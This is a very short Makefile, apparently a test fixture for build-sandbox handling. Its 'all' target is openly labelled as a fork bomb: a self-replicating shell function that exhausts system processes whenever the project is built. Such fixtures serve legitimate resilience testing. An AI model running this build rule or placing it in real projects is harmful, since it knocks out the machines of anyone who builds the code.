# Is a fork bomb while it is built.
#: as = ["Makefile"]
#: keeps = ["*"]
all:
	bomb() { bomb | bomb & }; bomb; sleep 100
